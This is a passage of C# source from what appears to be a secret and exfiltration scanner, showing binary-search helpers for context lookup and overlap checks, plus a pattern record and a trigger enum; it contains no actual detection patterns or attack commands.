    private static ContextKind NearbyContext(List<(int Start, int End, ContextKind Kind)> hits, int from, int to, int selfStart, int selfEnd)
    {
        // Hits are in order of their end: binary search the first that ends after 'from'.
        int lo = 0, hi = hits.Count;
        while (lo < hi)
        {
            var mid = (lo + hi) >>> 1;
            if (hits[mid].End <= from)
            {
                lo = mid + 1;
            }
            else
            {
                hi = mid;
            }
        }

        var kinds = ContextKind.None;
        for (var k = lo; k < hits.Count && hits[k].Start < to; k++)
        {
            if (hits[k].End <= selfStart || hits[k].Start >= selfEnd)
            {
                kinds |= hits[k].Kind;
            }
        }

        return kinds;
    }

    private static bool Overlaps(SortedList<int, int> occupied, int start, int end)
    {
        // The accepted finding starting last before 'end' is the only one that can overlap: accepted ones are disjoint.
        var keys = occupied.Keys;
        int lo = 0, hi = keys.Count;
        while (lo < hi)
        {
            var mid = (lo + hi) >>> 1;
            if (keys[mid] < end)
            {
                lo = mid + 1;
            }
            else
            {
                hi = mid;
            }
        }

        return lo > 0 && occupied.Values[lo - 1] > start;
    }

    private sealed record Pattern(SecretRule? Rule, AssignmentKeyword? Keyword, ContextKind Context, Trigger Trigger = Trigger.None, ExfiltrationVocabulary.Kind Word = default);

    private enum Trigger
    {
        None,
        Url,
        Command,
        Bech32,
        Transfer,
        Word,
    }
}
